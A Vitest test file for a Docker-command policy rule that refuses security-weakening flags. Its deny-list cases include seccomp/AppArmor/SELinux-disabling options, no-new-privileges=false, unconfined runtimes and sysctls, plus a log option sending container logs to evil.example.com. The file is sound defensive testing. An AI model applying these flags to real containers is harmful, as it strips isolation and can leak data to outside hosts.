import { describe, expect, it } from 'vitest';
import { decide } from './index.js';
import { securityOptAllowed } from './kernel-override.js';
import { IMAGE, TEST_POLICY, verdict } from './test-helpers.js';
import { spellings } from './test-spellings.js';

const ID = 'kernel-override';
const runWith = (flag: string, value: string): [string[]][] =>
  spellings('run', flag, value).map((t) => [['run', ...t, IMAGE]]);
const buildWith = (flag: string, value: string): [string[]][] =>
  spellings('build', flag, value).map((t) => [['build', ...t, '-t', IMAGE, '.']]);
const refusedOrUsage = (argv: string[]) => {
  const v = verdict(argv);
  if (v !== 'usage') expect(v).toContain(ID);
};

const BAD_SECURITY_OPTS = [
  'seccomp=unconfined',
  'seccomp:unconfined',
  'seccomp=/tmp/profile.json',
  'seccomp=builtin',
  'apparmor=unconfined',
  'apparmor:unconfined',
  'apparmor=docker-default',
  'label=disable',
  'label:disable',
  'label=type:spc_t',
  'label=level:s0:c100,c200',
  'disable',
  'systempaths=unconfined',
  'writable-cgroups=true',
  'no-new-privileges=false',
  'no-new-privileges:false',
  'no-new-privileges=0',
  'no-new-privileges=f',
  'no-new-privileges=yes',
  'no-new-privileges=',
  'no-new-privileges:',
  'NO-NEW-PRIVILEGES',
  'no-new-privileges ',
  'no-new-privileges=true ',
  'no-new-privileges,seccomp=unconfined',
  'no-new-privileges:true=x',
  '',
];
const GOOD_SECURITY_OPTS = [
  'no-new-privileges',
  'no-new-privileges=true',
  'no-new-privileges:true',
  'no-new-privileges=1',
  'no-new-privileges:True',
  'no-new-privileges=TRUE',
  'no-new-privileges=t',
];

describe('kernel-override: --security-opt', () => {
  it.each(BAD_SECURITY_OPTS)('%j is not an allowed option', (o) => expect(securityOptAllowed(o)).toBe(false));
  it.each(GOOD_SECURITY_OPTS)('%j is allowed', (o) => expect(securityOptAllowed(o)).toBe(true));

  it.each(BAD_SECURITY_OPTS.flatMap((o) => runWith('security-opt', o)))('%j is refused', refusedOrUsage);

  it.each([
    [['run', '--security-opt', 'no-new-privileges', '--security-opt', 'seccomp=unconfined', IMAGE]],
    [['run', '--security-opt=seccomp=unconfined', '--security-opt=no-new-privileges', IMAGE]],
    [['container', 'run', '--security-opt', 'apparmor=unconfined', IMAGE]],
    // build's --security-opt is a stringSlice: pflag splits it as CSV
    ...buildWith('security-opt', 'seccomp=unconfined'),
    ...buildWith('security-opt', 'no-new-privileges,seccomp=unconfined'),
    ...buildWith('security-opt', '"seccomp=unconfined",no-new-privileges'),
    ...buildWith('security-opt', 'no-new-privileges=false'),
  ])('%j is refused', refusedOrUsage);

  it('says which option and why', () => {
    const msg = (argv: string[]) => decide(argv, TEST_POLICY).violations.find((v) => v.rule === ID)?.message;
    expect(msg(['run', '--security-opt', 'seccomp=unconfined', IMAGE])).toContain(
      '--security-opt "seccomp=unconfined" replaces the seccomp/AppArmor profile',
    );
    expect(msg(['run', '--security-opt', 'no-new-privileges:false', IMAGE])).toContain(
      'would turn no-new-privileges off',
    );
    expect(msg(['build', '--security-opt', 'no-new-privileges,label=disable', '.'])).toContain(
      '("label=disable") changes or disables the SELinux label',
    );
  });

  it.each([
    ...GOOD_SECURITY_OPTS.flatMap((o) => runWith('security-opt', o)),
    [['run', '--security-opt', 'no-new-privileges', '--security-opt=no-new-privileges:true', IMAGE]],
    ...buildWith('security-opt', 'no-new-privileges'),
    ...buildWith('security-opt', 'no-new-privileges,no-new-privileges=true'),
    [['run', IMAGE, '--security-opt', 'seccomp=unconfined']],
  ])('%j is allowed', (argv) => {
    expect(verdict(argv)).toEqual([]);
  });
});

describe('kernel-override: flags refused by the table', () => {
  const refused: [string, string][] = [
    ['sysctl', 'net.ipv4.conf.all.route_localnet=1'],
    ['sysctl', 'kernel.shm_rmid_forced=0'],
    ['runtime', 'runc-unconfined'],
    ['runtime', 'io.containerd.runsc.v1'],
    ['runtime', 'runc'],
    ['isolation', 'process'],
    ['isolation', 'default'],
    ['annotation', 'run.oci.keep_original_groups=1'],
    ['storage-opt', 'size=1G'],
  ];
  it.each(refused.flatMap(([f, v]) => runWith(f, v)))('%j', (argv) => {
    expect(verdict(argv)).toContain(ID);
  });

  it.each([
    ...buildWith('isolation', 'process'),
    [['start', '--checkpoint', 'cp1', 'web']],
    [['start', '--checkpoint=cp1', 'web']],
    [['start', '--checkpoint-dir', '/tmp/cp', 'web']],
    [['start', '--checkpoint-dir=/var/lib/docker', '--checkpoint', 'x', 'web']],
    [['container', 'start', '--checkpoint', 'cp1', 'web']],
  ])('%j', (argv) => {
    expect(verdict(argv)).toContain(ID);
  });

  it('says which flag and why', () => {
    const v = decide(['run', '--sysctl', 'net.ipv4.ip_forward=1', IMAGE], TEST_POLICY).violations.find(
      (x) => x.rule === ID,
    );
    expect(v?.message).toMatch(/^--sysctl is not allowed: .*sysctls/);
  });
});

describe('kernel-override: --log-driver and --log-opt', () => {
  it.each(
    [
      'syslog',
      'gelf',
      'fluentd',
      'journald',
      'splunk',
      'awslogs',
      'none',
      'JSON-FILE',
      'json-file ',
      'Local',
      'vendor/plugin:latest',
    ].flatMap((d) => runWith('log-driver', d)),
  )('%j is refused', refusedOrUsage);

  it.each([
    [['run', '--log-opt', 'syslog-address=tcp://evil.example.com:514', IMAGE]],
    [['run', '--log-driver', 'json-file', '--log-opt', 'fluentd-address=unix:///var/run/docker.sock', IMAGE]],
    [['run', '--log-opt=gelf-address=udp://10.0.0.9:12201', IMAGE]],
    [['run', '--log-driver=local', '--log-driver=syslog', IMAGE]],
  ])('%j is refused', refusedOrUsage);

  it('says which driver and why', () => {
    const v = decide(['run', '--log-driver', 'syslog', IMAGE], TEST_POLICY).violations.find((x) => x.rule === ID);
    expect(v?.message).toContain('--log-driver "syslog": only json-file and local are allowed');
    expect(v?.fix).toContain('cida-docker logs');
  });

  it.each([
    ...runWith('log-driver', 'json-file'),
    ...runWith('log-driver', 'local'),
    [['run', '--log-driver', '', IMAGE]],
    [['run', '--log-driver=syslog', '--log-driver=json-file', IMAGE]],
    [['run', '--log-driver', 'local', '--log-opt', 'max-size=10m', '--log-opt', 'max-file=3', IMAGE]],
    [['run', '--log-opt', 'mode=non-blocking', '--log-opt', 'max-buffer-size=4m', IMAGE]],
    [['run', '--log-opt', 'tag={{.Name}}', '--log-opt', 'labels=team', IMAGE]],
  ])('%j is allowed', (argv) => {
    expect(verdict(argv)).toEqual([]);
  });
});

describe('kernel-override: --network driver options', () => {
  it.each([
    ...runWith(
      'network',
      'name=mynet,driver-opt=com.docker.network.endpoint.sysctls=net.ipv4.conf.IFNAME.route_localnet=1',
    ),
    [['run', '--network', 'name=mynet,driver-opt=a=b', IMAGE]],
  ])('%j is refused', refusedOrUsage);

  it('allows the long syntax without driver-opt', () => {
    expect(verdict(['run', '--network', 'name=mynet,alias=web', IMAGE])).toEqual([]);
  });
});
